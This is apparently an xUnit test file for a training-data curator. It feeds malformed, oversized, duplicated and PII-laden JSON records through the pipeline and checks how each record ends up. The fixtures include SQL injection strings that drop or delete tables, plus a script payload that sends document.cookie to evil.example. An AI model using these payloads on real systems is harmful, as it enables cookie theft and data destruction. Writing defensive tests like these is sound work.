using System.Text;
using System.Text.Json.Nodes;
using SiteCraft.Ml.Contracts.Core.Curation;

namespace SiteCraft.Ml.Contracts.Tests;

/// <summary>
/// A corpus built to break the pipeline: huge fields, broken encodings, deep nesting, wrong
/// types, injection strings, duplicates, PII in many spellings, empty text. Every record must
/// end accepted, quarantined with reasons, or a duplicate, and nothing may throw.
/// </summary>
public sealed class HostileCorpusTests
{
    [Fact]
    public void Every_hostile_record_ends_in_one_outcome_with_reasons_and_the_counts_add_up()
    {
        var corpus = Corpus();
        var curator = new Curator(TrainingContract.Contract);

        var outcomes = corpus.Select(entry => (entry.Name, Outcome: curator.Process(entry.Bytes))).ToList();

        Assert.Equal(corpus.Count, curator.Accepted + curator.Quarantined + curator.Duplicates);
        Assert.All(outcomes, o =>
        {
            if (o.Outcome is CurationOutcome.Quarantined q)
            {
                Assert.NotEmpty(q.Reasons);
            }

            foreach (var excerpt in o.Outcome.Decisions.Select(d => d.Excerpt).OfType<string>())
            {
                Assert.True(excerpt.Length <= 80, $"{o.Name}: excerpt of {excerpt.Length} characters");
            }
        });

        var expected = corpus.ToDictionary(e => e.Name, e => e.Expect);
        foreach (var (name, outcome) in outcomes)
        {
            var actual = outcome switch
            {
                CurationOutcome.Accepted => "accepted",
                CurationOutcome.Duplicate d => $"duplicate:{d.Kind}",
                CurationOutcome.Quarantined q => string.Join(",", q.Reasons.Select(r => r.Rule).Distinct()),
                _ => "?",
            };

            Assert.True(expected[name] == actual, $"{name}: expected {expected[name]}, got {actual}");
        }
    }

    [Fact]
    public void Redacted_records_from_the_corpus_carry_no_detectable_pii()
    {
        var curator = new Curator(TrainingContract.Contract);
        var detector = new PiiDetector("US");

        foreach (var (name, bytes, _) in Corpus().Where(e => e.Name.StartsWith("pii", StringComparison.Ordinal)))
        {
            var accepted = Assert.IsType<CurationOutcome.Accepted>(curator.Process(bytes));

            Assert.True(detector.Find(accepted.Record.Completion).Count == 0, $"{name}: {accepted.Record.Completion}");
            Assert.Contains(accepted.Decisions, d => d.Action == CurationAction.Redacted);
        }
    }

    private static List<(string Name, byte[] Bytes, string Expect)> Corpus()
    {
        var corpus = new List<(string Name, byte[] Bytes, string Expect)>();
        void Add(string name, JsonObject record, string expect) => corpus.Add((name, TrainingRecords.Bytes(record), expect));
        void AddRaw(string name, byte[] bytes, string expect) => corpus.Add((name, bytes, expect));
        string Json(JsonObject record) => Encoding.UTF8.GetString(TrainingRecords.Bytes(record));

        Add("clean", TrainingRecords.Valid(completion: TrainingRecords.Prose(100, 60)), "accepted");
        Add("html page", TrainingRecords.Valid(completion: SiteContent.LandingPageHtml), "accepted");
        Add("page json", TrainingRecords.Valid(completion: SiteContent.PageJson, useCase: "site.page.json"), "accepted");

        Add("10 MB completion", TrainingRecords.Valid(completion: new string('x', 10 * 1024 * 1024)), "contract.maxLength");
        AddRaw("10 MB of emoji in a message", Encoding.UTF8.GetBytes(Json(WithMessage("EMOJI")).Replace("EMOJI", string.Concat(Enumerable.Repeat("🥖", 2_600_000)), StringComparison.Ordinal)), "contract.maxLength");

        var invalidUtf8 = TrainingRecords.Bytes(TrainingRecords.Valid(completion: TrainingRecords.Prose(101, 40)));
        invalidUtf8[Encoding.UTF8.GetString(invalidUtf8).IndexOf("completion", StringComparison.Ordinal) + 14] = 0xC0;
        AddRaw("invalid utf8", invalidUtf8, "contract.encoding.utf8");
        AddRaw("encoded surrogate", Encoding.UTF8.GetBytes(Json(TrainingRecords.Valid())).Concat(new byte[] { 0xED, 0xA0, 0x80 }).ToArray(), "contract.encoding.utf8,contract.json.syntax");
        AddRaw("lone surrogate", Encoding.UTF8.GetBytes(Json(TrainingRecords.Valid(completion: "SURROGATE")).Replace("SURROGATE", "Fresh \\udc00 bread every day in Lyon", StringComparison.Ordinal)), "contract.encoding.surrogate");
        AddRaw("lone surrogate key", Encoding.UTF8.GetBytes(Json(TrainingRecords.Valid())[..^1] + ",\"\\ud800\":true}"), "contract.unknownField");
        AddRaw("nul and controls", Encoding.UTF8.GetBytes(Json(TrainingRecords.Valid(completion: "CONTROLS")).Replace("CONTROLS", "Fresh\\u0000 bread\\u0007 every morning, baked by hand in Lyon.", StringComparison.Ordinal)), "accepted");

        AddRaw("deep nesting", Encoding.UTF8.GetBytes(Json(TrainingRecords.Valid())[..^1] + ",\"quality_signals\":" + new string('[', 50_000) + new string(']', 50_000) + "}"), "contract.json.depth");
        AddRaw("deep objects", Encoding.UTF8.GetBytes(string.Concat(Enumerable.Repeat("{\"a\":", 5_000)) + "1" + new string('}', 5_000)), "contract.json.depth");
        AddRaw("truncated json", TrainingRecords.Bytes(TrainingRecords.Valid())[..40], "contract.json.syntax");
        AddRaw("empty line", [], "contract.json.syntax");
        AddRaw("json null", "null"u8.ToArray(), "contract.required");
        AddRaw("json array", "[{\"id\":1}]"u8.ToArray(), "contract.type");
        AddRaw("bom", [0xEF, 0xBB, 0xBF, .. TrainingRecords.Bytes(TrainingRecords.Valid(completion: TrainingRecords.Prose(102, 40)))], "accepted");

        var wrongTypes = TrainingRecords.Valid();
        wrongTypes["id"] = 12345;
        wrongTypes["messages"] = new JsonObject { ["role"] = "user" };
        wrongTypes["consent"] = "true";
        wrongTypes["created_at"] = 1714564800;
        Add("wrong types", wrongTypes, "contract.type");
        var noConsent = TrainingRecords.Valid();
        noConsent["consent"] = false;
        Add("no consent", noConsent, "contract.validValues");
        Add("missing everything", new JsonObject(), "contract.required");

        Add("sql injection in completion", TrainingRecords.Valid(completion: "Robert'); DROP TABLE ai_training_examples; -- and then SELECT * FROM users WHERE '1'='1' for the bakery page."), "accepted");
        Add("sql injection in id", TrainingRecords.Valid(id: "1' OR '1'='1"), "contract.format");
        Add("sql injection in use case", TrainingRecords.Valid(useCase: "site.page.json'; DELETE FROM ai_data_contracts; --"), "contract.validValues");
        Add("html injection", TrainingRecords.Valid(completion: "<script>fetch('https://evil.example/?c='+document.cookie)</script><img src=x onerror=alert(1)><p>Welcome to the bakery, fresh bread daily.</p>"), "accepted");

        var original = TrainingRecords.Prose(103, 120);
        Add("original", TrainingRecords.Valid(completion: original), "accepted");
        Add("exact duplicate", TrainingRecords.Valid(completion: original), "duplicate:Exact");
        Add("exact duplicate in other whitespace", TrainingRecords.Valid(completion: "\r\n" + original.Replace(" ", "\u2002", StringComparison.Ordinal) + "  "), "duplicate:Exact");
        Add("near duplicate", TrainingRecords.Valid(completion: original + " Book a table today."), "duplicate:Near");

        Add("pii emails", TrainingRecords.Valid(completion: "Write to JANE.DOE@EXAMPLE.COM, jane [at] example [dot] com or jane＠example.org about your order."), "accepted");
        Add("pii phones", TrainingRecords.Valid(completion: "Call (415) 555-2671, +44 20 7946 0958 or +49 30 901820 to reserve a birthday cake."), "accepted");
        Add("pii cards and ips", TrainingRecords.Valid(completion: "Paid with 4111-1111-1111-1111 from 203.0.113.7 and 2001:db8::ff00:42:8329 yesterday evening."), "accepted");
        Add("pii secrets", TrainingRecords.Valid(completion: "Set OPENAI_API_KEY=sk-proj-4f9Qx2LmN8vB7cT1yR6wZ3kJ0hD5sA and aws AKIAIOSFODNN7EXAMPLE in the deploy settings."), "accepted");

        Add("empty completion", TrainingRecords.Valid(completion: ""), "contract.minLength");
        Add("whitespace completion", TrainingRecords.Valid(completion: " \t\r\n\u00A0\u200B "), "normalize.whitespace,quality.length");
        Add("lorem ipsum", TrainingRecords.Valid(completion: "Lorem ipsum dolor sit amet, consectetur adipiscing elit, sed do eiusmod tempor incididunt."), "quality.placeholder");
        Add("whitespace message", WithMessage("   "), "normalize.whitespace");
        return corpus;
    }

    private static JsonObject WithMessage(string content)
    {
        var record = TrainingRecords.Valid();
        ((JsonObject)record["messages"]![1]!)["content"] = content;
        return record;
    }
}
